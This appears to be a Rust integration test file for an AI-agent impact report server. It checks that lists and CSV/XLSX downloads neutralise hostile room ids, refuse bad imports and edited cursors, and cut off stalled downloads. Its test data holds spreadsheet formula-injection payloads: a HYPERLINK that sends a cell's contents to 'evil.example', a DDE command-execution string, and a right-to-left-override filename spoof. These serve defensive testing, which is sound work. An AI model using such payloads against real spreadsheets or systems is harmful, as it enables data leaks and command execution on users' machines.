//! The lists and downloads under hostile input (issue 17), through the real server
//! on both backends: ids that a spreadsheet would run as formulas, invisible and
//! bidirectional characters, ids that links must keep readable, ids too long or with
//! control characters at import, and cursors edited out of range.

use std::io::Cursor;

use base64::engine::general_purpose::URL_SAFE_NO_PAD;
use base64::Engine;
use calamine::Reader;
use impact::server::auth::Role;
use serde_json::Value;

use crate::common::{impact, impact_ok, TestDatabase, TestSqlite};
use crate::server_common::{client, download, get, raw, spawn_app_on, token, TestApp};

const FLAGS_ON: &str = "[defaults]\nai_agent_impact_report = true\n";
const ORG: &str = "org_hostile";
const LIST: &str = "outcome=ai_only&from=2026-10-01&to=2026-10-31";

/// Ids as a chatbot might hold them, and ids an attacker might send.
const HOSTILE_IDS: [&str; 8] = [
    "=HYPERLINK(\"http://evil.example/?x=\"&A2,\"Click\")",
    "=cmd|' /C calc'!A0",
    "+1",
    "-2+3",
    "@SUM(A1)",
    "'quoted",
    "\u{202E}gpj.exe",
    "8f14e45f-ceea_1.x~y@s.whatsapp.net:9",
];

fn csv_cell(text: &str) -> String {
    format!("\"{}\"", text.replace('"', "\"\""))
}

/// One organization whose AI closed a room for each id, on its own day.
fn write_import(dir: &std::path::Path, ids: &[&str]) {
    std::fs::write(
        dir.join("organizations.ndjson"),
        format!(r#"{{"id":"{ORG}","name":"Hostile","ai_addon":true,"timezone":"Asia/Jakarta"}}"#),
    )
    .expect("write");
    let mut rooms = String::from(
        "id,organization_id,channel,contact_id,created_at,closed_at,closed_reason,assign_channel_agent_id,assigned_at\n",
    );
    for (index, id) in ids.iter().enumerate() {
        let day = 1 + index % 28;
        rooms.push_str(&format!(
            "{},{ORG},{},c{index},2026-10-{day:02}T10:00:00+07:00,2026-10-{day:02}T10:20:00+07:00,RESOLVE_AI,,\n",
            csv_cell(id),
            csv_cell(if index % 2 == 0 { " WhatsApp " } else { "=2+2" }),
        ));
    }
    std::fs::write(dir.join("rooms.csv"), rooms).expect("write");
}

async fn check_backend(url: &str) {
    let dir = tempfile::tempdir().expect("dir");
    write_import(dir.path(), &HOSTILE_IDS);
    let path = dir.path().to_str().expect("path");
    impact_ok(url, &["import", "--dir", path]);
    impact_ok(url, &["aggregate"]);
    let app = spawn_app_on(url, FLAGS_ON, |settings| {
        settings.server.inbox_url_template = "https://admin.example/inbox/{room_id}".into();
    })
    .await;
    let owner = token(ORG, Role::Owner);

    // The API keeps every id exactly as the source has it.
    let (status, list) = get(
        &app,
        &format!("/api/v1/reports/ai-agent-impact/conversations?{LIST}&limit=50"),
        &owner,
    )
    .await;
    assert_eq!(status, 200, "{list}");
    let mut api_ids: Vec<String> = list["conversations"]
        .as_array()
        .expect("rows")
        .iter()
        .map(|row| row["room_id"].as_str().expect("id").to_string())
        .collect();
    api_ids.sort();
    let mut expected: Vec<String> = HOSTILE_IDS.iter().map(|id| id.to_string()).collect();
    expected.sort();
    assert_eq!(api_ids, expected);
    let readable = list["conversations"]
        .as_array()
        .expect("rows")
        .iter()
        .find(|row| row["room_id"] == HOSTILE_IDS[7])
        .expect("the readable id");
    assert_eq!(
        readable["inbox_url"], "https://admin.example/inbox/8f14e45f-ceea_1.x~y@s.whatsapp.net:9",
        "unreserved characters, @ and : stay as they are in a link"
    );

    // The CSV: no cell a spreadsheet would run, every value recoverable.
    let (status, _, csv) = download(
        &app,
        &format!("/api/v1/reports/ai-agent-impact/conversations.csv?{LIST}"),
        &owner,
    )
    .await;
    assert_eq!(status, 200);
    let mut reader = csv::Reader::from_reader(csv.as_slice());
    let mut seen = Vec::new();
    for record in reader.records() {
        let record = record.expect("a CSV row");
        for cell in record.iter() {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "a cell a spreadsheet would run as a formula: {cell:?}"
            );
            assert!(!cell.contains('\u{202E}'), "a bidi control reached the CSV");
        }
        let id = &record[0];
        let raw = match id.strip_prefix('\'') {
            Some(rest) if rest.starts_with(['=', '+', '-', '@', '\'']) => rest.to_string(),
            _ => id.to_string(),
        };
        seen.push(raw.replace("[U+202E]", "\u{202E}"));
        let channel = &record[4];
        assert!(channel == " WhatsApp " || channel == "'=2+2", "{channel:?}");
    }
    seen.sort();
    assert_eq!(
        seen, expected,
        "each id reads back once the quote comes off"
    );

    // An HTTP/1.0 client (no chunked framing) gets the same file, ended by the
    // connection's close.
    let host = app.address.trim_start_matches("http://");
    let (answer, _, closed) = raw(
        &app,
        format!(
            "GET /api/v1/reports/ai-agent-impact/conversations.csv?{LIST} HTTP/1.0\r\n\
             Host: {host}\r\nAuthorization: Bearer {owner}\r\n\r\n"
        )
        .as_bytes(),
        std::time::Duration::from_secs(10),
    )
    .await;
    assert!(
        closed,
        "the server closes an HTTP/1.0 download's connection"
    );
    let (head, body) = answer.split_once("\r\n\r\n").expect("a head and a body");
    assert!(head.starts_with("HTTP/1.0 200"), "{head}");
    assert!(
        !head.to_ascii_lowercase().contains("transfer-encoding"),
        "{head}"
    );
    assert_eq!(body.as_bytes(), csv.as_slice(), "the same file as HTTP/1.1");

    // The workbook: plain strings, the bidi control shown, links that open.
    let (status, _, xlsx) = download(
        &app,
        &format!("/api/v1/reports/ai-agent-impact/conversations.xlsx?{LIST}"),
        &owner,
    )
    .await;
    assert_eq!(status, 200);
    let mut workbook: calamine::Xlsx<_> =
        calamine::open_workbook_from_rs(Cursor::new(xlsx)).expect("a workbook");
    let sheet = workbook.sheet_names()[0].clone();
    let cells = workbook.worksheet_range(&sheet).expect("the sheet");
    let ids: Vec<String> = cells.rows().skip(1).map(|row| row[0].to_string()).collect();
    assert!(ids.contains(&"[U+202E]gpj.exe".to_string()), "{ids:?}");
    assert!(ids.contains(&HOSTILE_IDS[0].to_string()), "{ids:?}");
    let formulas = workbook.worksheet_formula(&sheet).expect("formulas");
    let links: Vec<String> = formulas
        .rows()
        .flat_map(|row| row.iter().cloned())
        .filter(|formula| !formula.is_empty())
        .collect();
    assert_eq!(links.len(), HOSTILE_IDS.len(), "one link a row: {links:?}");
    assert!(
        links.iter().all(
            |link| link.starts_with("HYPERLINK(\"https://admin.example/inbox/")
                && !link.contains("%25")
        ),
        "links encoded once: {links:?}"
    );
    assert!(links.contains(
        &"HYPERLINK(\"https://admin.example/inbox/8f14e45f-ceea_1.x~y@s.whatsapp.net:9\")"
            .to_string()
    ));

    // Cursors edited out of range are refused with our error, on both backends.
    let owner_list = format!("/api/v1/reports/ai-agent-impact/conversations?{LIST}&limit=2");
    let (_, first) = get(&app, &owner_list, &owner).await;
    let cursor = first["next_cursor"].as_str().expect("a cursor");
    let decoded: Value =
        serde_json::from_slice(&URL_SAFE_NO_PAD.decode(cursor).expect("base64")).expect("JSON");
    for (field, value) in [
        ("day", Value::from("9999-12-31")),
        ("day", Value::from("2026-09-30")),
        ("created_at_micros", Value::from(i64::MAX)),
        (
            "created_at_micros",
            Value::from(-8_334_601_228_800_000_000_i64),
        ),
        ("room_id", Value::from("r\u{0}1")),
    ] {
        let mut edited = decoded.clone();
        edited[field] = value.clone();
        let edited = URL_SAFE_NO_PAD.encode(serde_json::to_vec(&edited).expect("JSON"));
        let (status, answer) = get(&app, &format!("{owner_list}&cursor={edited}"), &owner).await;
        assert_eq!(status, 400, "{field} = {value}: {answer}");
        assert_eq!(answer["error"]["code"], "bad_request", "{answer}");
    }
}

#[actix_web::test]
async fn hostile_ids_are_safe_in_lists_and_downloads_on_sqlite() {
    let db = TestSqlite::create();
    check_backend(&db.url).await;
}

#[actix_web::test]
async fn hostile_ids_are_safe_in_lists_and_downloads_on_postgres() {
    let db = TestDatabase::create();
    check_backend(&db.url).await;
}

/// The longest id the import takes, of four-byte characters and quotes, still pages:
/// the cursor the server makes for it is one it accepts.
#[actix_web::test]
async fn the_longest_id_pages_with_its_own_cursor() {
    let db = TestSqlite::create();
    let longest = format!("\"{}", "😀".repeat(impact::import::MAX_ID_CHARS - 1));
    let ids: Vec<String> = (0..3)
        .map(|n| format!("{n}{}", &longest[..longest.len() - 4]))
        .collect();
    let dir = tempfile::tempdir().expect("dir");
    write_import(
        dir.path(),
        &ids.iter().map(String::as_str).collect::<Vec<_>>(),
    );
    impact_ok(
        &db.url,
        &["import", "--dir", dir.path().to_str().expect("path")],
    );
    impact_ok(&db.url, &["aggregate"]);
    let app = spawn_app_on(&db.url, FLAGS_ON, |_| {}).await;
    let owner = token(ORG, Role::Owner);
    let path = format!("/api/v1/reports/ai-agent-impact/conversations?{LIST}&limit=1");
    let (_, first) = get(&app, &path, &owner).await;
    let cursor = first["next_cursor"].as_str().expect("a cursor");
    let (status, second) = get(&app, &format!("{path}&cursor={cursor}"), &owner).await;
    assert_eq!(status, 200, "{second}");
    assert_eq!(second["conversations"].as_array().expect("rows").len(), 1);
}

/// Ids over the bound, or with a control character, are refused with the file, the
/// line and the field; nothing is imported.
#[test]
fn ids_out_of_bounds_are_refused_at_import() {
    let too_long = "r".repeat(impact::import::MAX_ID_CHARS + 1);
    for (id, says) in [
        (too_long.as_str(), "at most 128"),
        ("a\tb", "control character"),
        ("a\u{1}b", "control character"),
    ] {
        let db = TestSqlite::create();
        let dir = tempfile::tempdir().expect("dir");
        write_import(dir.path(), &["ok", id]);
        let output = impact(
            &db.url,
            &["import", "--dir", dir.path().to_str().expect("path")],
        );
        assert!(!output.status.success(), "{id:?} was imported");
        let stderr = String::from_utf8_lossy(&output.stderr);
        assert!(stderr.contains("rooms.csv"), "{stderr}");
        assert!(stderr.contains("line 3"), "{stderr}");
        assert!(stderr.contains("id"), "{stderr}");
        assert!(stderr.contains(says), "{stderr}");
    }
}

/// How many downloads the server streams now, from its metrics.
async fn downloads_in_flight(app: &TestApp) -> i64 {
    let text = crate::server_common::metrics_text(app).await;
    text.lines()
        .find_map(|line| line.strip_prefix("impact_downloads_in_flight "))
        .and_then(|value| value.trim().parse().ok())
        .expect("the gauge")
}

/// A client that asks for a download and reads nothing holds its place only for the
/// send timeout; meanwhile one more download is refused with 429, `Retry-After` and
/// our error in the caller's language; afterwards downloads work again.
#[actix_web::test]
async fn a_stalled_download_is_cut_off_and_the_limit_says_429_meanwhile() {
    use std::io::Write as _;
    let db = TestSqlite::create();
    let dir = tempfile::tempdir().expect("dir");
    // Wide rows (ids, channel names and inbox links as long as the import takes),
    // so the file outgrows both sockets' buffers (about 18 MB) and the server has
    // to wait for the client.
    let channel = "W".repeat(impact::import::MAX_LABEL_CHARS);
    let ids: Vec<String> = (0..40_000)
        .map(|n| format!("r{n:05}{}", "x".repeat(impact::import::MAX_ID_CHARS - 6)))
        .collect();
    write_import(
        dir.path(),
        &ids.iter().map(String::as_str).collect::<Vec<_>>(),
    );
    let rooms = std::fs::read_to_string(dir.path().join("rooms.csv")).expect("rooms");
    let rooms = rooms
        .replace("\" WhatsApp \"", &channel)
        .replace("\"=2+2\"", &channel);
    std::fs::write(dir.path().join("rooms.csv"), rooms).expect("write");
    impact_ok(
        &db.url,
        &["import", "--dir", dir.path().to_str().expect("path")],
    );
    impact_ok(&db.url, &["aggregate"]);
    let app = spawn_app_on(&db.url, FLAGS_ON, |settings| {
        settings.server.max_downloads_at_once = 1;
        settings.server.download_send_timeout_seconds = 2;
        settings.server.inbox_url_template = "https://admin.example/inbox/{room_id}".into();
    })
    .await;
    let owner = token(ORG, Role::Owner);
    let csv = format!("/api/v1/reports/ai-agent-impact/conversations.csv?{LIST}");
    assert_eq!(downloads_in_flight(&app).await, 0);

    let host = app.address.trim_start_matches("http://").to_string();
    let mut stalled = std::net::TcpStream::connect(&host).expect("connect");
    write!(
        stalled,
        "GET {csv} HTTP/1.1\r\nHost: {host}\r\nAuthorization: Bearer {owner}\r\n\r\n"
    )
    .expect("request");
    let mut held = false;
    for _ in 0..50 {
        if downloads_in_flight(&app).await == 1 {
            held = true;
            break;
        }
        tokio::time::sleep(std::time::Duration::from_millis(20)).await;
    }
    assert!(held, "the stalled download never took its place");

    let mut busy = client()
        .get(format!("{}{csv}&lang=id", app.address))
        .bearer_auth(&owner)
        .send()
        .await
        .expect("request");
    assert_eq!(busy.status().as_u16(), 429);
    assert_eq!(
        busy.headers()
            .get("retry-after")
            .and_then(|value| value.to_str().ok()),
        Some("10")
    );
    let answer: Value = busy.json().await.expect("JSON");
    assert_eq!(answer["error"]["code"], "too_many_downloads", "{answer}");
    assert!(
        answer["error"]["message"]
            .as_str()
            .is_some_and(|m| m.contains("unduhan")),
        "{answer}"
    );

    // The send timeout cuts the stalled client off and frees its place.
    let mut freed = false;
    for _ in 0..100 {
        if downloads_in_flight(&app).await == 0 {
            freed = true;
            break;
        }
        tokio::time::sleep(std::time::Duration::from_millis(100)).await;
    }
    assert!(freed, "the stalled download still holds its place");
    let (status, _, body) = download(&app, &csv, &owner).await;
    assert_eq!(status, 200);
    assert_eq!(
        csv::Reader::from_reader(body.as_slice()).records().count(),
        ids.len(),
        "the next download is whole"
    );
    // The stalled client, reading at last, finds its file broken off (the
    // connection ends without chunked encoding's last, empty chunk), not a file
    // that looks whole.
    stalled
        .set_read_timeout(Some(std::time::Duration::from_secs(10)))
        .expect("timeout");
    let mut received = Vec::new();
    let _ = std::io::Read::read_to_end(&mut stalled, &mut received);
    assert!(received.len() > 1_000_000, "{} bytes", received.len());
    assert!(
        !received.ends_with(b"\r\n0\r\n\r\n"),
        "the cut-off download ended like a whole one"
    );
}
